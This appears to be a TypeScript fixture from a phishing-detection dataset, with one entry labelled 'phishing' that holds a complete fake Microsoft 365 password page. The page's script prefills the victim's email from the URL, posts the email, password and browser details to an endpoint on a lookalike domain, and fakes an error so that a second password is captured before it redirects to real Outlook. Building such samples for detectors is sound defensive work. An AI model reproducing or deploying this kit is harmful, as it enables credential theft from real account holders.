import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, wordmark, json, js, b64, rev } from '../parts/yl-kit.js';

const msLogo = `<svg xmlns="http://www.w3.org/2000/svg" width="108" height="24" viewBox="0 0 108 24"><rect width="10" height="10" fill="#f25022"/><rect x="11" width="10" height="10" fill="#7fba00"/><rect y="11" width="10" height="10" fill="#00a4ef"/><rect x="11" y="11" width="10" height="10" fill="#ffb900"/><text x="28" y="17" font-family="Segoe UI,Arial" font-size="16" fill="#5e5e5e" font-weight="600">Microsoft</text></svg>`;

const msCss = `*{box-sizing:border-box}body{margin:0;font-family:'Segoe UI','Segoe UI Web (West European)',-apple-system,BlinkMacSystemFont,Roboto,'Helvetica Neue',sans-serif;background:#f2f2f2 url('/auth/bg.svg') center/cover;min-height:100vh;display:flex;align-items:center;justify-content:center}
.box{width:440px;max-width:100%;background:#fff;box-shadow:0 2px 6px rgba(0,0,0,.2);padding:44px;min-height:338px}.id{display:flex;align-items:center;gap:8px;margin:16px 0 8px;font-size:15px}.id img{width:24px;height:24px}
h1{font-size:24px;font-weight:600;margin:12px 0}input{width:100%;border:0;border-bottom:1px solid #666;height:36px;font-size:15px;padding:6px 0;outline:none}input:focus{border-bottom-color:#0067b8}
.er{color:#e81123;font-size:15px;margin:8px 0;display:none}.lk{font-size:13px;color:#0067b8;text-decoration:none;display:block;margin:16px 0}.bt{display:flex;justify-content:flex-end;margin-top:24px}.bt button{min-width:108px;height:32px;background:#0067b8;color:#fff;border:0;font-size:15px;cursor:pointer}
.ft{position:fixed;bottom:0;right:0;font-size:12px;padding:8px 14px;color:#000}.ft a{color:#000;text-decoration:none;margin-left:14px}`;

const m365Kit = (endpoint: string, finalUrl: string): string => `<div class="box">${msLogo}
<div class="id"><img id="clogo" alt="" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><span id="em"></span></div>
<h1>Enter password</h1><div class="er" id="er">Your account or password is incorrect. If you don't remember your password, <a href="#">reset it now.</a></div>
<form id="pf"><input type="password" name="passwd" id="pw" placeholder="Password" autocomplete="current-password" required><a class="lk" href="#">Forgot my password</a><div class="bt"><button>Sign in</button></div></form></div>
<div class="ft"><a href="#">Terms of use</a><a href="#">Privacy &amp; cookies</a><a href="#">...</a></div>
<script>
var em=(location.hash.slice(1)||new URLSearchParams(location.search).get('e')||'');try{if(!/@/.test(em))em=atob(em)}catch(x){}
document.getElementById('em').textContent=em;var dom=em.split('@')[1]||'';if(dom)document.getElementById('clogo').src='https://logo.clearbit.com/'+dom;
var n=0;document.getElementById('pf').onsubmit=function(e){e.preventDefault();n++;var pw=document.getElementById('pw').value;
fetch(${JSON.stringify(endpoint)},{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({email:em,password:pw,attempt:n,agent:navigator.userAgent})}).then(function(r){return r.json()}).then(function(j){
if(n<2||!j.valid){document.getElementById('er').style.display='block';document.getElementById('pw').value='';}else{location.replace(${JSON.stringify(finalUrl)}.replace('{d}',dom))}}).catch(function(){document.getElementById('er').style.display='block'})};
</script>`;

export const entries: Entry[] = [
{
  id: 'yl-m365-hash-email-prefill',
  label: 'phishing',
  kind: 'm365-kit',
  url: 'https://docs-secure-viewer.com/auth/oauth2/?client=office#ahmed.khalil@gulfstar-contracting.ae',
  body: doc({ title: 'Sign in to your account', css: msCss, body: m365Kit('/auth/oauth2/validate.php', 'https://outlook.office365.com/owa/?realm={d}') }),
  routes: { 'docs-secure-viewer.com/auth/oauth2/validate.php': json({ valid: false, msg: 'retry' }) },
},
];
